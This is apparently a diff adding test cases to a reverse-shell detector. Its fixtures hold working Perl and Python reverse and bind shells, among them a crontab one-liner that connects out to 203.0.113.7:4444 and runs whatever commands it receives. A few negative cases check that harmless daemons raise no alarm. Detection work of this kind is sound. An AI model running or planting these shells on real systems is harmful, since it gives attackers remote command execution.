@@ -46,3 +46,70 @@ pclose($mail);`;
     expect(reverseShell(addedFile('/var/www/html/mail.php', text))).toBeUndefined();
   });
 });
+
+describe('Perl and Python shells wired to a socket', () => {
+  const judge = (path: string, text: string) => reverseShell(addedFile(path, text));
+
+  it('finds a Perl reverse shell whatever its socket handle is named', () => {
+    // pentestmonkey's perl-reverse-shell: the handle is SOCK, not S.
+    const text = `use Socket;
+socket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
+if (connect(SOCK, sockaddr_in($port, inet_aton($ip)))) {
+  open(STDIN, ">&SOCK");
+  open(STDOUT, ">&SOCK");
+  open(STDERR, ">&SOCK");
+  exec({"/bin/sh"} ($fake_process_name, "-i"));
+}`;
+    expect(judge('/tmp/.x.pl', text)?.reason).toMatch(/Perl connecting a socket to a shell/);
+  });
+
+  it('finds a Perl bind shell duplicating its handles onto the connection it accepted', () => {
+    const text = `socket(S,&PF_INET,&SOCK_STREAM,$t)||die();
+bind(S,sockaddr_in($p,INADDR_ANY))||die();
+listen(S,3)||die();
+accept(C,S);
+open STDIN,"<&C";open STDOUT,">&C";open STDERR,">&C";
+exec $sh||die();`;
+    expect(judge('/var/www/cgi-bin/b.pl', text)?.severity).toBe('critical');
+  });
+
+  it('finds the IO::Socket one-liner in a crontab', () => {
+    const line = `* * * * * perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n`;
+    expect(judge('/etc/cron.d/x', line)?.severity).toBe('critical');
+  });
+
+  it('does not alarm on a Perl daemon sending its output to a log file, with a socket of its own', () => {
+    const text = `socket(SERVER, PF_INET, SOCK_STREAM, $proto);
+open(LOG, ">>/var/log/mydaemon.log");
+open(STDOUT, ">&LOG");
+open(STDERR, ">&LOG");
+system("/usr/bin/logger", "started");`;
+    expect(judge('/usr/sbin/mydaemon', text)).toBeUndefined();
+  });
+
+  it('finds a Python bind shell running what the connection sends', () => {
+    const text = `from socket import *
+import os, popen2
+sockobj = socket(AF_INET, SOCK_STREAM)
+sockobj.bind(('', Port))
+sockobj.listen(5)
+connection, address = sockobj.accept()
+while 1:
+    data = connection.recv(1024)
+    if not data: break
+    cmd_res, stdin, stderror = popen2.popen3(data[:-2])
+    connection.send(cmd_res.read())`;
+    expect(judge('/var/www/html/s.py', text)?.reason).toMatch(
+      /Python running what a socket receives/,
+    );
+  });
+
+  it('does not alarm on a Python service running a fixed program with a name it received', () => {
+    const text = `import socket, subprocess
+conn, addr = server.accept()
+name = conn.recv(64).decode().strip()
+out = subprocess.run(["systemctl", "is-active", name], capture_output=True)
+conn.send(out.stdout)`;
+    expect(judge('/usr/lib/svc/status.py', text)).toBeUndefined();
+  });
+});
